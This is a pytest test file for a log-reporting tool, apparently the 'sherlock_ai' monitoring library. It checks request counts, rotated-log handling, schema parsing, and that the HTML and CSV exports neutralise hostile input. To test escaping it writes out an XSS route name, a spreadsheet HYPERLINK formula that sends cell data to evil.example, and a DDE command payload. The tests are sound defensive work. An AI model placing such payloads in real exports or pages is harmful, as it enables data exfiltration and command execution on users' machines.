"""sherlock-ai report on logs written by a real app run: counts match what was sent, rotated
files are read once, bad lines are counted, hostile names are escaped in the HTML page."""

from __future__ import annotations

import asyncio
import csv
import html
import io
import json
import logging
import math
import os
import random
import re
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from hypothesis import given, settings
from hypothesis import strategies as st

import sherlock_ai
from sherlock_ai import LogFileConfig, LoggingConfig
from sherlock_ai.__main__ import main
from sherlock_ai.consumers import log_line
from sherlock_ai.engine.measurement import Measurement
from sherlock_ai.formatting import format_bytes
from sherlock_ai.integrations.asgi import instrument_app
from sherlock_ai.leaks import LeakSuspect
from sherlock_ai.logs.json_lines import JsonFormatter
from sherlock_ai.logs.lines import (
    memory_line,
    performance_line,
    resources_line,
    safe_name,
)
from sherlock_ai.logs.schema import locate, parse_message
from sherlock_ai.report import ReadStats, build_report, read_logs
from sherlock_ai.report.console import site_text
from sherlock_ai.report.export import as_json
from sherlock_ai.report.html import render_html
from sherlock_ai.report.reader import Record, TextLines, _parse_json, log_files, parse_size

SENT = {"GET /items/{item_id}": 40, "POST /orders": 12, "GET /fail": 5}
HOSTILE_ROUTE = "/x/<script>alert(1)</script>/{n}"


def fastapi_run(logs: Path, log_format_type: str, max_bytes: int = 10 * 1024 * 1024) -> None:
    """Serve SENT's requests through the middleware into real log files."""
    files = {stem: LogFileConfig(stem, max_bytes=max_bytes, backup_count=50,
                                 loggers=loggers)
             for stem, loggers in (("app", ()), ("monitoring", ("MonitoringLogger",)),
                                   ("performance", ("PerformanceLogger",)))}
    sherlock_ai.sherlock_ai(LoggingConfig(logs_dir=logs, log_format_type=log_format_type,
                                          console_enabled=False, log_files=files))
    app = FastAPI()

    @app.get("/items/{item_id}")
    async def item(item_id: int):
        return {"item": item_id, "data": [item_id] * 100}

    @app.post("/orders")
    @sherlock_ai.log_performance
    async def order():
        return {"ok": True}

    @app.get("/fail")
    async def fail():
        raise RuntimeError("boom")

    @app.get(HOSTILE_ROUTE)
    async def hostile(n: int):
        return {"n": n}

    async def traffic():
        transport = httpx.ASGITransport(app=instrument_app(app), raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
            for n in range(SENT["GET /items/{item_id}"]):
                assert (await client.get(f"/items/{n}")).status_code == 200
            for _ in range(SENT["POST /orders"]):
                assert (await client.post("/orders")).status_code == 200
            for _ in range(SENT["GET /fail"]):
                assert (await client.get("/fail")).status_code == 500
            assert (await client.get("/x/%3Cscript%3Ealert(1)%3C%2Fscript%3E/1")).status_code \
                == 200

    asyncio.run(traffic())
    sherlock_ai.SherlockAI.cleanup()


def report_of(logs: Path):
    stats = ReadStats()
    return build_report(read_logs(logs, stats)), stats


@pytest.mark.parametrize("log_format_type", ["log", "json"])
def test_counts_match_the_requests_sent(tmp_path, log_format_type):
    fastapi_run(tmp_path, log_format_type)
    report, stats = report_of(tmp_path)
    assert stats.bad_lines == 0
    for name, count in SENT.items():
        assert report.names[name].count == count
    assert report.names["GET /fail"].errors == SENT["GET /fail"]
    assert report.names["GET /items/{item_id}"].errors == 0
    # The decorated endpoint's PERFORMANCE line is counted once, from performance.*.
    orders = [s for s in report.names.values() if s.name.endswith(".order")]
    assert [s.count for s in orders] == [SENT["POST /orders"]]
    items = report.names["GET /items/{item_id}"]
    assert items.duration.count == 40 and items.duration_at(0.5) <= items.duration.high
    # One process wrote them all; JSON lines say which.
    assert list(report.processes) == [os.getpid() if log_format_type == "json" else None]
    rss = [cell[3] / cell[2] for points in report.activity.series().values()
           for _, cell in points if cell[2]]
    assert rss and all(value > 1_000_000 for value in rss)


def test_rotated_files_are_read_once_each_and_app_log_is_not_double_counted(tmp_path):
    fastapi_run(tmp_path, "log", max_bytes=2_000)
    names = {p.name for p in tmp_path.iterdir()}
    assert "monitoring.log.3" in names and "app.log.3" in names
    chosen = [p.name for p in log_files(tmp_path)]
    assert not [n for n in chosen if n.startswith(("app.", "errors."))]
    assert chosen.index("monitoring.log.2") < chosen.index("monitoring.log.1") \
        < chosen.index("monitoring.log")
    report, _ = report_of(tmp_path)
    assert report.names["GET /items/{item_id}"].count == SENT["GET /items/{item_id}"]


def test_only_app_log_is_enough(tmp_path):
    fastapi_run(tmp_path, "json")
    for path in tmp_path.iterdir():
        if path.is_file() and not path.name.startswith("app."):
            path.unlink()
    report, _ = report_of(tmp_path)
    assert {name: report.names[name].count for name in SENT} == SENT


def test_bad_and_partial_lines_are_counted_and_skipped(tmp_path, capsys):
    fastapi_run(tmp_path, "json")
    monitoring = tmp_path / "monitoring.jsonl"
    good = monitoring.read_bytes()
    monitoring.write_bytes(good + b'{"kind": "memory", "name": "GET /cut", "dura\n'
                           + b"\x00\xff\xfe garbage\n[1, 2]\n" + good[:40])
    assert main(["report", str(tmp_path)]) == 0
    captured = capsys.readouterr()
    assert "skipped 4 unreadable lines" in captured.err
    assert re.search(r"GET /items/\{item_id\}\s+│\s+40 │", captured.out)


def test_text_lines_parse_sizes_and_leak_suspects(tmp_path):
    (tmp_path / "monitoring.log").write_text(
        "2025-07-05 19:19:11 - abc - MonitoringLogger - INFO - MEMORY | GET /a | SUCCESS | "
        "0.261s | Current: 57.66MB | Change: -1.50KB | Traced: 24.33KB (Peak: 30.33KB) | "
        "Concurrent: 3\n"
        "    at app.py:12: +1.00KB (+1 blocks)\n"
        "2025-07-05 19:19:12 - - - MonitoringLogger - WARNING - LEAK SUSPECT | GET /a | "
        "+4.04KB/request | app.py:80 +125.19KB (+31 blocks) over 31 requests\n"
        "2025-07-05 19:19:13 - abc - MonitoringLogger - INFO - MEMORY | GET /a | ERR\n"
        "2025-07-05 19:19:13 - abc - shop - INFO - a user line, not ours\n", encoding="utf-8")
    report, stats = report_of(tmp_path)
    assert stats.records == 2 and stats.bad_lines == 1
    a = report.names["GET /a"]
    assert a.rss_change.values == [-1536.0] and a.traced_peak_max == pytest.approx(30.33 * 1024)
    suspect = report.suspects["GET /a"]
    assert suspect.per_request == pytest.approx(4.04 * 1024)
    assert suspect.sites[0]["file"] == "app.py" and suspect.sites[0]["line"] == 80


def test_a_native_suspect_is_kept_apart_from_a_python_one_of_the_same_route(tmp_path):
    prefix = "2025-07-05 19:19:12 - - - MonitoringLogger - WARNING - "
    python = LeakSuspect("POST /thumbnail", 4137.0, 31, [
        {"file": "app.py", "line": 80, "size": 128195, "count": 31}]).message()
    native = LeakSuspect("POST /thumbnail", 98304.0, 48, [], "native", 4718592).message()
    (tmp_path / "monitoring.log").write_text(f"{prefix}{python}\n{prefix}{native}\n",
                                             encoding="utf-8")
    report, stats = report_of(tmp_path)
    assert stats.bad_lines == 0
    kinds = {s.kind: s for s in report.suspects.values()}
    assert set(kinds) == {"python", "native"}
    assert kinds["native"].per_request == 98304.0
    assert kinds["python"].per_request == pytest.approx(4137.0, rel=0.01)
    assert site_text(kinds["native"]) == "native: not seen by tracemalloc"
    assert site_text(kinds["python"]) == "app.py:80"
    doc = json.loads(as_json(report, stats))
    assert sorted(s["kind_of_leak"] for s in doc["suspects"]) == ["native", "python"]


@pytest.mark.parametrize("text, value", [("512.00MB", 512 * 2**20), ("-1.50KB", -1536.0),
                                         ("+0.00B", 0.0), ("n/a", None)])
def test_sizes_read_back_as_format_bytes_wrote_them(text, value):
    assert parse_size(text) == value


def test_html_page_is_self_contained_and_escapes_log_text(tmp_path):
    fastapi_run(tmp_path, "json")
    monitoring = tmp_path / "monitoring.jsonl"
    with monitoring.open("a", encoding="utf-8") as out:
        out.write(json.dumps({
            "timestamp": "2030-01-01T00:00:00.000+00:00", "level": "WARNING",
            "logger": "MonitoringLogger", "message": "LEAK SUSPECT | ...", "request_id": "-",
            "kind": "leak_suspect", "name": "GET /items/{item_id}", "per_request": 4137.0,
            "requests": 31, "sites": [{"file": "<b>evil.py", "line": 7, "size": 1, "count": 1}],
        }) + "\n")
    page_path = tmp_path / "report.html"
    assert main(["report", str(tmp_path), "--html", str(page_path)]) == 0
    page = page_path.read_text(encoding="utf-8")
    assert not re.search(r"(src|href)\s*=", page, re.I)
    assert "http://" not in page and "https://" not in page
    # One script, the page's own hover (inline, no source to load).
    assert page.count("<script") == 1 and "<script>" in page
    assert html.escape(HOSTILE_ROUTE.replace("{n}", "")) in page
    assert "&lt;b&gt;evil.py:7" in page and "<b>evil" not in page
    assert page.count("<svg") == 4 and "<polyline" in page
    assert "GET /items/{item_id}" in page and "+4.04KB" in page


@pytest.mark.servers
def test_exit_codes_and_the_console_script(tmp_path):
    assert main(["report", str(tmp_path / "missing")]) == 2
    (tmp_path / "app.log").write_text("2025-07-05 19:19:11 - - - shop - INFO - hello\n")
    assert main(["report", str(tmp_path)]) == 1
    with pytest.raises(SystemExit) as usage:
        main(["report"])
    assert usage.value.code == 2
    fastapi_run(tmp_path / "logs", "log")
    done = subprocess.run([sys.executable, "-m", "sherlock_ai", "report", str(tmp_path / "logs")],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert re.search(r"POST /orders\s+│\s+12 │", done.stdout)
    assert "GET /fail" in done.stdout


# The writers' own output read back through the shared schema: names and error texts may hold
# " | ", sizes are read back as format_bytes rounded them.
_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=30)


def _rounded(n):
    return parse_size(format_bytes(n))


@settings(max_examples=200, deadline=None)
@given(name=_TEXT, error=st.one_of(st.none(), _TEXT), rss=st.integers(0, 2**40),
       change=st.integers(-2**33, 2**33), traced=st.one_of(st.none(), st.integers(-2**30, 2**30)),
       concurrent=st.integers(0, 50), duration=st.floats(0, 1e5))
def test_schema_reads_what_the_writers_write(name, error, rss, change, traced, concurrent,
                                             duration):
    name = safe_name(name)
    status = "ERROR" if error is not None else "SUCCESS"
    m = Measurement("memory", name, status, duration, 20, error=error, rss=rss,
                    rss_change=change, traced=traced,
                    traced_peak=None if traced is None else abs(traced) + 10,
                    concurrent=concurrent, attributes={"args": "a | b"})
    for line, kind in ((memory_line(m), "memory"), (performance_line(m), "performance")):
        at, tag = locate("2026-12-01 10:00:00 - 42 - - - MonitoringLogger - INFO - " + line)
        fields = parse_message(line, tag)
        assert at == 57 and fields["kind"] == kind and fields["name"] == name
        assert fields["status"] == status and fields.get("error") == error
        assert fields["duration"] == pytest.approx(round(duration, 3))
        assert fields["concurrent"] == concurrent
        if kind == "memory":
            assert fields["rss"] == _rounded(rss) and fields["rss_change"] == _rounded(change)
            if traced is not None:
                assert fields["traced"] == _rounded(traced)
                assert fields["traced_peak"] == _rounded(abs(traced) + 10)
    m.kind = "resources"
    m.attributes.update(cpu_percent=12.5, threads=3, io_read=1, io_write=2)
    fields = parse_message(resources_line(m), "RESOURCES")
    assert fields["rss"] == _rounded(rss) and fields["cpu_percent"] == 12.5


def test_schema_reads_the_leak_watch_warning():
    suspect = LeakSuspect("GET /a | b", 4137.0, 31, [
        {"file": "shop/app.py", "line": 80, "size": 128_200, "count": 31},
        {"file": "shop/cache.py", "line": 7, "size": 2048, "count": -2, "share": 0.25}])
    at, tag = locate(suspect.message())
    fields = parse_message(suspect.message(), tag)
    assert (at, fields["name"], fields["requests"]) == (0, "GET /a | b", 31)
    assert fields["per_request"] == _rounded(4137.0)
    assert [(s["file"], s["line"], s["count"], s.get("share")) for s in fields["sites"]] == [
        ("shop/app.py", 80, 31, None), ("shop/cache.py", 7, -2, 0.25)]


def test_a_custom_log_format_is_read_with_or_without_being_told(tmp_path):
    custom = "[%(levelname)s] %(asctime)s pid=%(process)d rid=%(request_id)s :: %(message)s"
    sherlock_ai.sherlock_ai(LoggingConfig(logs_dir=tmp_path, console_enabled=False,
                                          log_format=custom))

    @sherlock_ai.monitor_memory
    def work():
        return [0] * 1000

    for _ in range(7):
        work()
    sherlock_ai.SherlockAI.cleanup()
    guessed, stats = report_of(tmp_path)
    (name,) = guessed.names
    assert guessed.names[name].count == 7 and stats.untimed == 0 and stats.bad_lines == 0
    assert list(guessed.processes) == [None]
    told = build_report(read_logs(tmp_path, ReadStats(), log_format=custom))
    assert list(told.processes) == [os.getpid()] and told.names[name].count == 7
    assert told.first == guessed.first


def test_logs_written_before_lines_carried_a_pid_still_read(tmp_path):
    (tmp_path / "monitoring.jsonl").write_text(json.dumps({
        "timestamp": "2026-11-24T21:33:55.120+00:00", "level": "INFO",
        "logger": "MonitoringLogger", "message": "MEMORY | GET /a | SUCCESS | 0.004s",
        "request_id": "abc", "kind": "memory", "name": "GET /a", "status": "SUCCESS",
        "duration": 0.004, "concurrent": 0, "rss": 50_000_000, "rss_change": 0}) + "\n",
        encoding="utf-8")
    report, stats = report_of(tmp_path)
    assert stats.records == 1 and list(report.processes) == [None]
    assert report.names["GET /a"].rss_change.values == [0.0]


def test_a_name_with_one_record_is_drawn_in_the_distributions(tmp_path):
    single = ("2026-12-01 10:00:00 - 42 - - - MonitoringLogger - INFO - MEMORY | GET /once | "
            "SUCCESS | 0.002s | Current: 50.00MB | Change: +4.00KB\n")
    often = ("2026-12-01 10:00:01 - 42 - - - MonitoringLogger - INFO - MEMORY | GET /often | "
             "SUCCESS | 0.001s | Current: 50.00MB | Change: +0.00B\n")
    (tmp_path / "monitoring.log").write_text(single + often * 5, encoding="utf-8")
    report, _ = report_of(tmp_path)
    page = render_html(report, ReadStats())
    for chart in ("memory-dist", "duration-dist"):
        svg = page.split(f"data-chart='{chart}'")[1].split("</svg>")[0]
        once = svg[svg.index("GET /once"):]
        assert "<circle" in once[:once.index("</g>")] and "GET /often" in svg


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path, capsys):
    # Names that the app chose, written by the real writers into a real log file.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    sherlock_ai.sherlock_ai(LoggingConfig(logs_dir=tmp_path, console_enabled=False))
    with sherlock_ai.MemoryTracker(formula, trace_malloc=False):
        pass
    for name in ("@SUM(A1:A9)", "-3.5", "+cmd|' /C calc'!A0"):
        log_line.measurement_ended(Measurement("memory", name, "SUCCESS", 0.01, 20, rss=50 * 2**20,
                             rss_change=-3584))
    sherlock_ai.SherlockAI.cleanup()
    assert formula in (tmp_path / "monitoring.log").read_text(encoding="utf-8")
    assert main(["report", str(tmp_path), "--format", "csv"]) == 0
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    assert set(rows) == {"'" + formula, "'@SUM(A1:A9)", "-3.5", "'+cmd|' /C calc'!A0"}
    # Figures stay numbers, negative ones too.
    assert float(rows["'@SUM(A1:A9)"]["rss_change_min"]) == -3584.0
    assert rows["-3.5"]["rss_change_mean"] == "-3584.0"


@pytest.mark.parametrize("log_format_type", ["log", "json"])
def test_a_long_log_is_counted_in_full(tmp_path, log_format_type):
    # More records than the report folds at a time, with more distinct values than a
    # distribution keeps exactly: every record still counts, the figures match the lines.
    sherlock_ai.sherlock_ai(LoggingConfig(logs_dir=tmp_path, console_enabled=False,
                                          log_format_type=log_format_type))
    rng = random.Random(3)
    durations, changes = [], []
    for n in range(20_000):
        duration, change = rng.uniform(0.001, 2.0), rng.randrange(-2**20, 2**20)
        log_line.measurement_ended(Measurement("memory", f"GET /r{n % 3}", "SUCCESS", duration, 20,
                             rss=50 * 2**20, rss_change=change))
        durations.append(duration)
        changes.append(change)
    sherlock_ai.SherlockAI.cleanup()
    report, stats = report_of(tmp_path)
    assert stats.records == 20_000 and stats.bad_lines == 0
    names = [report.names[f"GET /r{i}"] for i in range(3)]
    assert [s.count for s in names] == [s.duration.count for s in names] == [6667, 6667, 6666]
    assert [s.rss_change.count for s in names] == [6667, 6667, 6666]
    # Text lines round durations to the ms and sizes to three digits; JSON keeps them.
    rounded = log_format_type == "log"
    mine = sorted(round(d, 3 if rounded else 6) for d in durations[0::3])
    first = names[0].duration
    # Bucketed past EXACT_VALUES distinct values (text's rounded durations stay exact).
    assert (first.values is None) is not rounded
    assert first.high == mine[-1] and first.low == mine[0]
    assert first.total == pytest.approx(sum(mine))
    assert first.quantile(0.5) == pytest.approx(mine[math.ceil(len(mine) / 2) - 1], rel=0.011)
    assert names[1].rss_change.mean == pytest.approx(
        sum(changes[1::3]) / 6667, rel=0.01 if rounded else 1e-9, abs=2048)


_FIELDS = ("kind", "name", "timestamp", "pid", "request_id", "status", "duration", "rss",
           "rss_change", "traced_peak")


@settings(max_examples=150, deadline=None)
@given(name=_TEXT, error=st.one_of(st.none(), _TEXT), rss=st.integers(0, 2**40),
       change=st.integers(-2**33, 2**33), traced=st.one_of(st.none(), st.integers(0, 2**30)),
       duration=st.floats(0, 1e5), pid=st.one_of(st.none(), st.integers(1, 2**22)),
       when=st.floats(0, 4e9))
def test_the_fast_path_reads_what_the_general_path_reads(name, error, rss, change, traced,
                                                         duration, pid, when):
    # Every line the writers write, read both ways: where the fast path takes a line, its
    # record is the general path's.
    name = safe_name(name)
    m = Measurement("memory", name, "ERROR" if error else "SUCCESS", duration, 20, error=error,
                    rss=rss, rss_change=change, traced=traced,
                    traced_peak=None if traced is None else traced + 10)
    text = TextLines()
    stamp = format(datetime.fromtimestamp(int(when)), "%Y-%m-%d %H:%M:%S")
    head = f"{stamp} - {pid} - abc - MonitoringLogger - INFO - " if pid else \
        f"{stamp} - abc - MonitoringLogger - INFO - "
    record = logging.LogRecord("MonitoringLogger", 20, "sherlock_ai", 0, "", (), None)
    record.created, record.process, record.request_id, record.sherlock = when, pid, "abc", m
    for message in (memory_line(m), performance_line(m)):
        row = text.fast.text(head + message, None)
        if row is not None:
            slow = text.parse(head + message, None)
            assert [getattr(Record.from_row(row), f) for f in _FIELDS] == \
                [getattr(slow, f) for f in _FIELDS]
        record.msg, m.kind = message, "memory" if message.startswith("MEMORY") else "performance"
        line = JsonFormatter().format(record)
        row = text.fast.json(line, None)
        if row is not None:
            assert [getattr(Record.from_row(row), f) for f in _FIELDS] == \
                [getattr(_parse_json(line, None), f) for f in _FIELDS]
    # The common case does take the fast path.
    if "|" not in name and error is None:
        m.kind = "memory"
        assert text.fast.text(head + memory_line(m), None) is not None
